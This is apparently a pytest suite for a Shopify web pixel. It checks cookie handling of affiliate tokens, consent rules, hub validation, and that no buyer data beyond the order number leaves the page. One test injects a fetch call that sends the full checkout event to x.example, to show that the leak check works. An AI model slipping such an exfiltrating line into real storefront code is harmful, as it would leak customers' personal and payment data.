"""The pixel in a box like Shopify's: what it keeps, what it tells, and what never leaves."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.shopify_app.conftest import HUB
from tests.shopify_app.node import Stage

STORE = "sto_01j0000000000000000000000a"
TOKEN, OTHER = "AbC_-" * 20, "XyZ.~" * 20
COMPLETED = json.loads((Path(__file__).parents[1] / "shopify" / "fixtures" / "web_pixel"
                        / "checkout_completed.json").read_text())
YES = {"analyticsProcessingAllowed": True, "marketingAllowed": True,
       "preferencesProcessingAllowed": False, "saleOfDataAllowed": True}
ORDER = "5987654321012"
CANARY = "canary-word-of-the-buyer"

Run = Callable[..., dict[str, Any]]


@pytest.fixture(scope="module")
def run(node: str, bundles: dict[str, Any]) -> Iterator[Run]:
    """Tell a fresh pixel these events."""
    with Stage(node, "pixel") as stage:
        def told(*events: dict[str, Any], **more: Any) -> dict[str, Any]:
            scene = {"settings": {"hub": HUB, "store": STORE}, "privacy": YES} | more
            came: dict[str, Any] = stage.play(code=bundles["pixel"]["text"], events=events, **scene)
            assert came["problems"] == []
            return came

        yield told


def test_a_token_of_the_landing_page_is_kept_in_the_one_cookie_and_told_with_the_order(
        run: Run) -> None:
    came = run(viewed(f"?alc={TOKEN}&utm_source=x"), viewed(""), COMPLETED)

    assert came["extended"] == ["WebPixel::Render"]
    assert came["written"] == [
        f"alliance_alc={TOKEN}; path=/; max-age=2592000; samesite=lax; secure"]
    assert came["asked"] == [{
        "url": f"{HUB}/stores/shopify/hints", "method": "POST", "keepalive": True,
        "credentials": "omit", "headers": None,
        "body": json.dumps({"store": STORE, "order": ORDER, "token": TOKEN},
                           separators=(",", ":"))}]


def test_nothing_of_the_buyer_leaves_but_the_orders_number(run: Run) -> None:
    event = _with_canaries(COMPLETED)
    assert json.dumps(event).count(CANARY) > 40

    came = run(_with_canaries(viewed(f"?alc={TOKEN}")), event)

    assert json.loads(came["asked"][0]["body"]) == {
        "store": STORE, "order": ORDER, "token": TOKEN}
    assert CANARY not in json.dumps(came)


@pytest.mark.parametrize("order", [f"gid://shopify/Order/{ORDER}",
                                   f"gid://shopify/OrderIdentity/{ORDER}", ORDER])
def test_an_order_is_told_by_its_number_however_it_is_named(run: Run, order: str) -> None:
    came = run(completed(order), cookies={"alliance_alc": f"{OTHER}!{TOKEN}"})

    assert json.loads(came["asked"][0]["body"])["order"] == ORDER
    # Of several the newest: the others are in the shop's own order.
    assert json.loads(came["asked"][0]["body"])["token"] == TOKEN


def test_the_last_four_tokens_stay_newest_last(run: Run) -> None:
    clicks = [f"{number}{TOKEN}" for number in range(5)]

    came = run(*(viewed(f"?alc={click}") for click in [*clicks, clicks[2]]))

    assert came["kept"] == {
        "alliance_alc": "!".join([clicks[1], clicks[3], clicks[4], clicks[2]])}


@pytest.mark.parametrize("refused", ["analyticsProcessingAllowed", "marketingAllowed",
                                     "saleOfDataAllowed"])
def test_without_every_consent_nothing_is_kept_and_nothing_told(run: Run, refused: str) -> None:
    came = run(viewed(f"?alc={TOKEN}"), COMPLETED, privacy=YES | {refused: False},
               cookies={"alliance_alc": OTHER})

    assert (came["written"], came["asked"]) == ([], [])


def test_a_consent_that_is_taken_back_removes_what_was_kept(run: Run) -> None:
    came = run(viewed(f"?alc={TOKEN}"), said(YES | {"marketingAllowed": False}),
               viewed(f"?alc={OTHER}"), COMPLETED)

    assert came["kept"] == {}
    assert came["written"][1:] == ["alliance_alc=; path=/; max-age=0; samesite=lax; secure"]
    assert came["asked"] == []


def test_a_consent_that_is_given_late_counts_from_then_on(run: Run) -> None:
    came = run(viewed(f"?alc={TOKEN}"), said(YES), viewed(f"?alc={OTHER}"), COMPLETED,
               privacy=YES | {"marketingAllowed": False})

    assert came["kept"] == {"alliance_alc": OTHER}
    assert len(came["asked"]) == 1


def test_an_order_without_a_token_is_told_to_nobody(run: Run) -> None:
    assert run(viewed("?alc=short&alc=%3Cscript%3E"), COMPLETED)["asked"] == []
    assert run(completed(None), cookies={"alliance_alc": TOKEN})["asked"] == []


@pytest.mark.parametrize("settings", [
    {}, {"hub": "http://hub.example", "store": STORE}, {"hub": "javascript:1", "store": STORE},
    {"hub": "https://me:word@hub.example", "store": STORE}, {"hub": HUB, "store": "sto_1"},
    {"hub": HUB}])
def test_without_a_good_hub_and_store_it_does_not_even_listen(
        run: Run, settings: dict[str, str]) -> None:
    came = run(viewed(f"?alc={TOKEN}"), COMPLETED, settings=settings)

    assert (came["listens"], came["written"], came["asked"]) == ([], [], [])


def test_a_hub_that_is_down_disturbs_nobody(run: Run) -> None:
    came = run(viewed(f"?alc={TOKEN}"), COMPLETED, isHubDown=True)

    assert len(came["asked"]) == 1


def test_a_careless_pixel_would_have_been_caught(node: str, bundles: dict[str, Any]) -> None:
    leaky = bundles["pixel"]["text"].replace('"checkout_completed",', '"checkout_completed",e=>'
                                             'fetch("https://x.example",{body:JSON.stringify(e)}),')
    assert leaky != bundles["pixel"]["text"]
    with Stage(node, "pixel") as stage:
        came = stage.play(code=leaky, events=[_with_canaries(COMPLETED)], privacy=YES,
                          settings={"hub": HUB, "store": STORE})

    assert CANARY in json.dumps(came["asked"])


def test_it_weighs_a_hundredth_of_what_is_allowed(bundles: dict[str, Any]) -> None:
    assert bundles["pixel"]["bytes"] <= 2_000


def viewed(query: str) -> dict[str, Any]:
    """A page of the shop was opened with this query."""
    return {"name": "page_viewed", "context": {"document": {
        "location": {"href": f"https://shop.example/{query}", "search": query},
        "title": "A page", "referrer": ""}}}


def completed(order: str | None) -> dict[str, Any]:
    """The fixture with another order."""
    event = copy.deepcopy(COMPLETED)
    event["data"]["checkout"]["order"] = order and {"id": order, "customer": None}
    return event


def said(privacy: dict[str, bool]) -> dict[str, Any]:
    """The shopper answered the shop's banner."""
    return {"name": "visitorConsentCollected", "customerPrivacy": privacy}


def _with_canaries(value: Any, key: str = "") -> Any:
    """The event with a canary in each text and empty place, but in its name, order and query."""
    if isinstance(value, dict):
        return {name: _with_canaries(each, name) for name, each in value.items()}
    if isinstance(value, list):
        return [_with_canaries(each) for each in value] or [CANARY]
    if value in (None, "") or (isinstance(value, str)
                               and key not in {"name", "search"} and value != ORDER):
        return CANARY
    return value
